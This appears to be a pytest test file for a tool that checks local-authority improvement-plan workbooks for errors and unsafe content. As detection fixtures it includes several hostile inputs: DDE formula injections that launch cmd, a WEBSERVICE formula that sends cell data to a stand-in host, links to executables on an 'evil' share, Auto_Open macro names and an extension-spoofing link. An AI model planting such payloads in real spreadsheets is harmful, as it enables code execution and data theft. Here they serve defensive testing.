"""One mistake, one finding; closed recommendations; no report date; changed severities; the order of findings."""

from __future__ import annotations

import re
from collections import Counter
from zipfile import ZipFile

import pytest
from builder import PlanBuilder, clean_plan, editing
from checking.rule_cases import DONE, SAYS_NOTHING, SIXTY
from checking.workbook_cases import by, link_to_another_file
from openpyxl.workbook.defined_name import DefinedName

from plan_workbook.checking import Severity
from plan_workbook.checking.report import check
from plan_workbook.plan.inputs import Input
from plan_workbook.reading import read_plan

PRECEDENCE = {
    ("action-complete-before-due", "action-completed-date-missing"): clean_plan().action(rating="C"),
    ("indicator-percent-out-of-range", "indicator-outlier"): clean_plan().indicator(actual="980%"),
    ("indicator-value-unreadable", "indicator-floor-unfit"): clean_plan().indicator(better="Monitor", floor="low"),
    ("action-put-off-again", "action-slipped"): clean_plan()
    .action(original_completion_date="31/12/2017")
    .past("2017-11-30", "Action", "b", due="2018-01-31"),
    ("lead-copied", "lead-unlisted"): clean_plan()
    .person("Head of Assessment")
    .action(text="Train the duty team", lead="Train the duty team"),
    ("lead-unlisted", "lead-spelling"): clean_plan().person("Head of Assessment").action(lead="Head of Asessment"),
    ("action-completed-date-in-future", "action-completed-but-not-rated"): clean_plan().action(
        date_completed="01/01/2018"
    ),
    ("action-overdue-but-green", "action-due-first-of-month"): clean_plan().action(completion_date="01/11/2017"),
    ("action-overdue", "action-should-have-started"): clean_plan()
    .rating("C", "Complete", "complete")
    .rating("G", "Green", "on track")
    .rating("N", "Not started", "not started")
    .action(rating="N", start_date="01/10/2017", completion_date="30/11/2017"),
}


@pytest.mark.parametrize(("pair", "plan"), PRECEDENCE.items(), ids=[f"{a}-over-{b}" for a, b in PRECEDENCE])
def test_of_two_rules_that_see_one_mistake_the_more_telling_one_speaks(pair, plan, reported):
    rules = Counter(f.rule for f in reported(plan).findings if not f.rule.startswith(("recommendation-", "plan-")))
    assert rules == {pair[0]: 1}


def test_without_dates_of_the_plan_an_action_years_away_from_the_report_date_is_named(reported):
    plan = clean_plan(plan_start="", plan_end="").action(start_date="01/09/2007", completion_date="31/03/2081")
    found = [(f.message, f.fix) for f in reported(plan).findings if f.rule == "action-outside-plan"]
    assert found == [
        (
            "Action b starts on 1 September 2007, more than 5 years before the report date.",
            "Correct the date. If it is right, the coordinator types the Plan Start on the Plan sheet.",
        ),
        (
            "Action b is due on 31 March 2081, more than 5 years after the report date.",
            "Correct the date. If it is right, the coordinator types the Plan End on the Plan sheet.",
        ),
    ]


LATE_OR_MISSING = {
    "an empty action": {"ref": "", "text": "", "lead": "", "start_date": "", "completion_date": "30/11/2017"},
    "an overdue action": {"completion_date": "30/11/2017", "rating": "A"},
    "an overdue Green action": {"completion_date": "30/11/2017"},
    "an action that falls due": {"completion_date": "31/12/2017"},
    "an action that slipped": {"original_completion_date": "30/11/2017"},
    "an action without a date": {"completion_date": ""},
    "an action without a rating": {"rating": ""},
}


@pytest.mark.parametrize("cells", LATE_OR_MISSING.values(), ids=LATE_OR_MISSING)
def test_of_a_closed_recommendation_only_the_open_action_itself_is_said(cells, spoken):
    plan = clean_plan().recommendation(status="Business as usual", rating="C").indicator().action(**cells)
    assert spoken(plan) == {("recommendation-closed-with-open-actions", "R02")}


def test_nothing_is_asked_of_a_closed_recommendation(spoken):
    plan = clean_plan().recommendation(status="Business as usual", rating="", title="", lead="", progress="")
    plan.indicator(number="", description="Visits", lead="", unit="", better="", target="-", actual="-", previous="")
    plan.indicator(number="NEW", period="Jan 2015").indicator(better="").indicator(actual="-").indicator(target="-")
    assert spoken(plan) == set()


def test_a_recommendation_rated_complete_is_closed_too(spoken):
    plan = clean_plan().recommendation(rating="Completed", progress="").indicator(**SAYS_NOTHING)
    assert spoken(plan.action(**DONE)) == set()


def paused(plan: PlanBuilder) -> PlanBuilder:
    """With a scale that has a rating for what was stopped."""
    return plan.rating("G", "Green", "on track").rating("C", "Complete", "complete").rating("P", "Paused", "stopped")


def test_what_is_stopped_is_neither_late_nor_put_off_nor_open(spoken):
    late = {"rating": "P", "comment": "Waits for the new system", "completion_date": "01/11/2017"}
    put_off = {"original_completion_date": "30/09/2017"}
    plan = paused(clean_plan()).action(**late, **put_off).recommendation(rating="C").indicator().action(**DONE)
    assert spoken(plan.action(**late)) == set()


def test_a_recommendation_that_is_stopped_is_closed_and_its_open_actions_are_not_held_against_it(spoken):
    plan = paused(clean_plan()).recommendation(rating="P", progress="", lead="").indicator(**SAYS_NOTHING)
    assert spoken(plan.action(completion_date="30/11/2017").action(rating="P")) == set()


def test_actions_that_are_all_complete_or_stopped_leave_nothing_to_do(reported):
    plan = paused(clean_plan()).recommendation().indicator().action(**DONE).action(rating="P", comment="Not needed")
    (found,) = reported(plan).findings
    assert (found.rule, found.sheet) == ("recommendation-actions-all-complete", "R02")
    assert found.message == "Every action under Recommendation 2 is complete or stopped, but it is rated 'G'."


def test_contradictions_of_a_closed_recommendation_are_said(spoken):
    plan = clean_plan().recommendation(status="Business as usual", rating="A")
    plan.indicator(actual="150%").indicator(actual="Qtr 2 41%")
    plan.action(rating="G", start_date="01/03/2018", completion_date="01/02/2018").action(ref="a", rating="Gren")
    plan.action(rating="C", date_completed="01/01/2018").action(rating="C", ref="d")
    plan.action(start_date="01/03/2017", completion_date="31 Feb 2018")
    assert spoken(plan) == {
        (rule, "R02")
        for rule in (
            "recommendation-status-against-rating",
            "recommendation-closed-with-open-actions",
            "indicator-percent-out-of-range",
            "indicator-value-unreadable",
            "action-dates-reversed",
            "action-not-started-but-rated",
            "action-ref-duplicate",
            "action-rating-unknown",
            "action-completed-date-in-future",
            "action-complete-before-due",
            "action-outside-plan",
            "action-date-unreadable",
        )
    }


def test_a_closed_recommendation_conflicts_with_an_open_one(spoken):
    plan = clean_plan().recommendation(rating="C").indicator(number="CSC 001", actual="97%").action(**DONE)
    assert spoken(plan) == {("indicator-conflict", "R01"), ("indicator-conflict", "R02")}


COMPARES_WITH_THE_REPORT_DATE = {
    "action-overdue",
    "action-overdue-but-green",
    "action-due",
    "action-should-have-started",
    "action-complete-before-due",
    "action-completed-date-in-future",
    "action-not-started-but-rated",
    "indicator-stale",
    "recommendation-green-but-overdue",
    "plan-dates-reversed",
}


@pytest.mark.parametrize(("report_date", "said"), [("", "plan-field-missing"), ("31 Feb 2018", "plan-date-unreadable")])
def test_without_a_readable_report_date_nothing_is_judged_by_it(report_date, said, spoken):
    plan = clean_plan(report_date=report_date, data_as_at="01/01/2030")
    plan.indicator(period="Jan 2010").indicator(period="Q2")
    plan.action(completion_date="30/11/2017").action(completion_date="30/11/2017", rating="A", comment="Late")
    plan.action(completion_date="01/01/2018").action(start_date="01/03/2018")
    plan.action(rating="C", date_completed="30/03/2018").action(rating="C")
    rules = {rule for rule, _ in spoken(plan)}
    assert said in rules
    assert not rules & COMPARES_WITH_THE_REPORT_DATE


def test_a_plan_takes_a_rule_more_or_less_seriously(reported):
    plan = clean_plan().action(completion_date="31/01/2018").indicator(number="NEW")
    plan.severity("Action-Due", "Error").severity("indicator-number-missing", " note ")
    report = reported(plan)
    assert {f.rule: f.severity for f in report.findings} == {
        "action-due": Severity.ERROR,
        "indicator-number-missing": Severity.NOTE,
    }
    assert report.counts == {"error": 1, "warning": 0, "note": 1, "accepted": 0}
    assert report.errors == 1


def test_findings_come_in_reading_order(reported):
    plan = PlanBuilder(authority="")
    plan.recommendation(title="").indicator(actual="Qtr 1", target="x").action(rating="", text="")
    plan.recommendation(rating="?").indicator(lead="").action(lead="")
    found = reported(plan).findings
    assert [(f.sheet, f.rule) for f in found] == [
        ("Plan", "plan-field-missing"),
        ("R01", "recommendation-title-missing"),
        ("R01", "indicator-value-unreadable"),
        ("R01", "indicator-value-unreadable"),
        ("R01", "action-text-missing"),
        ("R01", "action-rating-missing"),
        ("R02", "recommendation-rating-unknown"),
        ("R02", "indicator-lead-missing"),
        ("R02", "action-lead-missing"),
    ]


def test_a_finding_says_whose_it_is(reported):
    plan = PlanBuilder(authority="").recommendation(number="4.01", lead="Ann Lee &\nHead of Audit")
    plan.indicator().action(text="")
    about_plan, about_action = reported(plan).findings
    assert (about_plan.recommendation, about_plan.lead) == (None, None)
    assert (about_action.recommendation, about_action.lead) == ("4.01", "Ann Lee & Head of Audit")


def test_two_sheets_of_one_number_are_said_on_each_and_both_are_read_by_name(spoken):
    plan = clean_plan().recommendation(number="1")
    assert spoken(plan) == {
        ("recommendation-number-duplicate", "R01"),
        ("recommendation-number-duplicate", "R01 (2)"),
        ("recommendation-without-actions", "R01 (2)"),
        ("recommendation-without-indicators", "R01 (2)"),
    }


def test_where_two_of_the_same_differ_in_what_nobody_sees_the_message_says_which(reported):
    plan = clean_plan().action(ref="a\u200b").indicator(number="CSC 1", target="80%").indicator(number="CSC\u00ad 1")
    plan.person("Zo\u00eb").person("Zoe\u0308").recommendation(number="1\ufeff")
    said = {f.rule: f.message for f in reported(plan).findings}
    unseen = "an invisible character: zero width space"
    first, second = (f.message for f in reported(plan).findings if f.rule == "action-ref-duplicate")
    assert f"(with {unseen})" in first and f"; the one here has {unseen}" in second
    assert "soft hyphen" in said["indicator-conflict"]
    assert "an accent that is a separate character" in said["person-duplicate"]
    assert "zero width no-break space" in said["recommendation-number-duplicate"]


def test_each_row_of_a_repetition_names_the_others(reported):
    plan = clean_plan()
    for number in ("2", "3"):
        plan.recommendation(number=number, progress=SIXTY).indicator(number="CSC 9", actual=f"9{number}%").action()
    by_rule = {(f.rule, f.sheet): f for f in reported(plan).findings}
    for rule in ("recommendation-progress-repeated", "indicator-conflict"):
        for mine, other in (("R02", "R03"), ("R03", "R02")):
            assert f"{other}!{by_rule[rule, other].cell}" in by_rule[rule, mine].message


def test_a_misspelt_severity_or_rule_is_said_and_changes_nothing(reported):
    plan = clean_plan().indicator(number="NEW").severity("indicator-number-missing", "serious")
    found = reported(plan.severity("indicator-numbr-missing", "error")).findings
    assert [f.value for f in found if f.rule == "plan-setting-unreadable"] == ["serious", "indicator-numbr-missing"]
    assert [f.severity for f in found if f.rule == "indicator-number-missing"] == [Severity.WARNING]


def test_a_link_that_no_cell_uses_is_said_of_the_workbook(tmp_path):
    made = by(clean_plan(), link_to_another_file)
    made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
    (found,) = check(read_plan(tmp_path / "plan.xlsx")).findings
    assert (found.rule, found.sheet, found.cell) == ("external-link", None, None)
    assert "'C:/Reports/budget 2017.xlsx'" in found.message


@pytest.mark.parametrize(
    ("target", "said"),
    [
        ("http://10.255.255.1/evil.xlsx", "'http://10.255.255.1/evil.xlsx'"),
        ("https://jo:secret@example.org/a%20b.xlsx", "'https://example.org/a b.xlsx'"),
        ("file://///server/share/x.xlsx", "'//server/share/x.xlsx'"),
        ("file:///\\\\server\\share\\x.xlsx", "'\\\\server\\share\\x.xlsx'"),
        ("figures.xlsx", "'figures.xlsx'"),
        ("https://example.org/" + "a" * 300, "'https://example.org/aaa"),
        ("https://example.org/%E2%80%AExslx.evil", "evil'"),
    ],
)
def test_a_link_says_where_it_leads_and_no_more_than_people_can_read(target, said, tmp_path):
    made = by(clean_plan(), lambda book: link_to_another_file(book, target))
    made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
    (found,) = check(read_plan(tmp_path / "plan.xlsx")).findings
    assert said in found.message and "secret" not in found.message and "\u202e" not in found.message
    assert len(found.message) < 200


REACHING = {
    "=cmd|'/c calc'!A0": "starts a program, 'cmd',",
    "='cmd'|'/c calc'!A0": "starts a program, 'cmd',",
    '=1+_xlfn.WEBSERVICE("http://10.255.255.1/?q="&A1)': "calls a server (WEBSERVICE)",
    '=image("https://example.org/a.png")': "calls a server (IMAGE)",
    '=RTD("some.server",,"topic")': "starts a program, 'RTD',",
}


@pytest.mark.parametrize(("formula", "said"), REACHING.items())
def test_a_formula_that_starts_a_program_or_calls_a_server_is_named_and_nobody_is_told_to_open_it(
    formula, said, tmp_path
):
    path = clean_plan().action().write_template(tmp_path / "plan.xlsx")
    with editing(path) as book:
        for row in (1, 2):
            book.type("R01", "Actions", row, "Comment", formula)
        cell = book.cell("R01", "Actions", 1, "Comment").coordinate
    (found,) = check(read_plan(path)).findings
    assert (found.rule, found.severity, found.sheet, found.cell) == ("external-link", Severity.WARNING, "R01", cell)
    assert said in found.message and f"Others on this sheet are at {cell[0]}{int(cell[1:]) + 1}." in found.message
    assert found.fix.startswith("Delete it, or type the value itself") and "open and save" not in found.fix


def _found_after(change, tmp_path):
    path = clean_plan().action().write_template(tmp_path / "plan.xlsx")
    with editing(path) as book:
        change(book)
    return check(read_plan(path)).findings


@pytest.mark.parametrize(
    ("formula", "file"),
    [
        ("='[performance.xlsx]Sheet1'!B4", "'performance.xlsx'"),
        (r"='\\evil\share\[x.xlsx]S'!A1", r"'\\evil\share\x.xlsx'"),
        ("='https://evil.example/[x.xlsx]S'!A1", "'https://evil.example/x.xlsx'"),
    ],
)
def test_a_formula_that_names_another_file_is_a_link_and_nobody_is_told_to_open_it(formula, file, tmp_path):
    def link(book):
        for row in (1, 2):
            book.type("R01", "Actions", row, "Comment", formula)

    (found,) = _found_after(link, tmp_path)
    assert found.rule == "external-link"
    assert f"takes its value from another file, {file}. Others on this sheet are at " in found.message
    assert "agree to nothing that Excel asks to enable or update" in found.fix and "open and save" not in found.fix


@pytest.mark.parametrize("target", [r"\\evil\share\x.exe", "file://evil/share/x.docx", "search-ms:query=x", "x.bat"])
@pytest.mark.parametrize("as_formula", [False, True])
def test_a_link_to_a_file_or_program_is_named(target, as_formula, tmp_path):
    def link(book):
        if as_formula:
            book.type("R01", "Actions", 1, "Comment", f'=HYPERLINK("{target}","Evidence")')
        else:
            book.type("R01", "Actions", 1, "Comment", "Evidence")
            book.cell("R01", "Actions", 1, "Comment").hyperlink = target

    (found,) = _found_after(link, tmp_path)
    assert found.rule == "external-link"
    assert f"The link in this cell opens a file or program when it is clicked: '{target}'." in found.message


@pytest.mark.parametrize("target", ["https://www.gov.uk/x.pdf", "mailto:jo@council.example", "evidence/minutes.docx"])
def test_a_link_to_a_page_an_address_or_a_file_in_the_same_folder_is_fine(target, tmp_path):
    def link(book):
        book.type("R01", "Actions", 1, "Comment", "Evidence")
        book.cell("R01", "Actions", 1, "Comment").hyperlink = target

    assert _found_after(link, tmp_path) == ()


@pytest.mark.parametrize("name", ["Auto_Open", "_xlnm.Auto_Open", "auto_closeX"])
def test_a_name_that_excel_runs_unasked_is_named(name, tmp_path):
    def define(book):
        book.workbook.defined_names[name] = DefinedName(name, attr_text="R01!$A$1")

    (found,) = _found_after(define, tmp_path)
    assert f"The name '{name.removeprefix('_xlnm.')}' of this workbook runs a macro" in found.message


def test_a_name_that_refers_to_a_file_on_a_server_is_a_link(tmp_path):
    def define(book):
        reference = r"'\\evil\share\[x.xlsx]S'!$A$1"
        book.workbook.defined_names["Rates"] = DefinedName("Rates", attr_text=reference)

    (found,) = _found_after(define, tmp_path)
    assert r"links to another file, '\\evil\share\x.xlsx', through the name Rates." in found.message


def test_a_link_that_starts_a_program_is_said_even_if_no_cell_uses_it(tmp_path):
    made = by(clean_plan(), link_to_another_file)
    made.hand(made.plan.write_template(tmp_path / "plan.xlsx"))
    with editing(tmp_path / "plan.xlsx") as book:
        book.workbook.defined_names["Rates"] = DefinedName("Rates", attr_text='WEBSERVICE("http://10.255.255.1")')
    link = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
    said = re.compile(r"<externalBook.*(?:</externalBook>|/>)(?=</externalLink>)", re.S)
    content = {}
    with ZipFile(tmp_path / "plan.xlsx") as file:
        for name in file.namelist():
            part = file.read(name).decode("utf-8", "surrogateescape")
            content[name] = said.sub(link, part) if "externalLinks/externalLink1.xml" in name else part
    with ZipFile(tmp_path / "dde.xlsx", "w") as file:
        for name, part in content.items():
            file.writestr(name, part.encode("utf-8", "surrogateescape"))
    findings = check(read_plan(tmp_path / "dde.xlsx")).findings
    assert [(each.rule, each.cell) for each in findings] == [("external-link", None)] * 2
    assert ["WEBSERVICE" in each.message for each in findings] == [True, False] and "'cmd'" in findings[1].message


def test_data_connections_are_said_by_name_and_without_what_they_reach_for(tmp_path):
    path = clean_plan().write_template(tmp_path / "plan.xlsx")
    part = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="Query - Sales" type="5"><dbPr connection="Provider=X;Password=Secret"/>'
        "</connection></connections>"
    )
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    arrow = f'<Relationship Id="rIdC" Type="{office}/connections" Target="connections.xml"/></Relationships>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
    listed = f'<Override PartName="/xl/connections.xml" ContentType="{kind}"/></Types>'
    with ZipFile(path) as file:
        content = {name: file.read(name).decode() for name in file.namelist()}
    for name, end, more in (
        ("xl/_rels/workbook.xml.rels", "</Relationships>", arrow),
        ("[Content_Types].xml", "</Types>", listed),
    ):
        content[name] = content[name].replace(end, more)
    with ZipFile(tmp_path / "connected.xlsx", "w") as file:
        for name, text in (content | {"xl/connections.xml": part}).items():
            file.writestr(name, text.encode())
    (found,) = check(read_plan(tmp_path / "connected.xlsx")).findings
    assert (found.rule, found.cell, "Secret" in found.message) == ("external-link", None, False)
    assert found.message == "The workbook loads data from elsewhere through a data connection, 'Query - Sales'."
    assert "Queries & Connections" in found.fix


def test_what_is_typed_over_a_formula_is_said_unless_it_says_the_same(tmp_path):
    path = clean_plan().indicator(actual="70%").write_template(tmp_path / "plan.xlsx")
    with editing(path) as book:
        over = book.cell("R01", "Indicators", 1, "Status")
        same, below = (book.cell("R01", "Indicators", row, "Status") for row in (2, 6))
        over.value, same.value, below.value = "Off target", "Off target", "see above"
        book["R01"]["C2"].value = "All is well"
    found = [f.cell for f in check(read_plan(path)).findings if f.rule == "content-outside-table"]
    assert found == ["C2", over.coordinate, below.coordinate]


def test_a_changed_label_and_the_sheet_s_own_broken_formulas_are_called_that(tmp_path):
    path = clean_plan().write_template(tmp_path / "plan.xlsx")
    with editing(path) as book:
        status = book.cell("R01", "Indicators", 1, "Status")
        for cell in (status, book["R01"]["A1"]):
            cell.value, cell.data_type = "#REF!", "e"
        label = book["R01"].cell(book.field("R01", "Lead").row, book.field("R01", "Lead").column - 1)
        label.value = "Responsible"
    found = {f.cell: f for f in check(read_plan(path)).findings}
    assert {cell: f.rule for cell, f in found.items()} == {
        "A1": "content-outside-table",
        status.coordinate: "content-outside-table",
        label.coordinate: "heading-changed",
    }
    for cell in ("A1", status.coordinate):
        assert found[cell].message == "The sheet's own formula here is broken: it shows '#REF!'."
    assert found[label.coordinate].message.startswith(f"{label.coordinate} says 'Responsible' where 'Lead' is expected")
    assert found[label.coordinate].fix == "Type Lead here again."


def test_a_pi_number_that_is_a_numeral_is_called_a_pi(reported):
    plan = clean_plan().indicator(number="204", actual="-").indicator(number="205", actual="50%")
    said = " ".join(f.message for f in reported(plan).findings)
    assert "PI 204 has a target" in said
    assert "but PI 205 is 40 points below target" in said


def test_a_number_with_its_word_is_named_once(reported):
    (found,) = reported(clean_plan().recommendation(number="Recommendation 2").indicator()).findings
    assert found.message == "Recommendation 2 is active but has no actions."


def test_a_scale_of_very_many_ratings_is_compared_row_by_row_and_not_each_with_all(monkeypatch):
    compared, times = Input.compared.fget, []
    monkeypatch.setattr(Input, "compared", property(lambda cell: times.append(cell) or compared(cell)))
    plan = clean_plan()
    for number in range(60):
        plan.rating(f"G{number % 30}", f"Green {number}", "On track")
    found = check(plan.read()).findings
    assert sum(each.message.startswith("The code 'G7' is also in ") for each in found) == 2
    assert len(times) < 60 * 10


def test_an_action_that_goes_on_is_told_which_date_it_has():
    plan = clean_plan().action(completion_date="Ongoing").action(completion_date="31 Feb 2018")
    goes_on, other = (each.message for each in check(plan.read()).findings if each.rule == "action-date-unreadable")
    assert (
        "is not a date (Completion Date). An action that goes on has the date by which it is looked at next" in goes_on
    )
    assert other.endswith("is not a date (Completion Date): February 2018 has 28 days.")
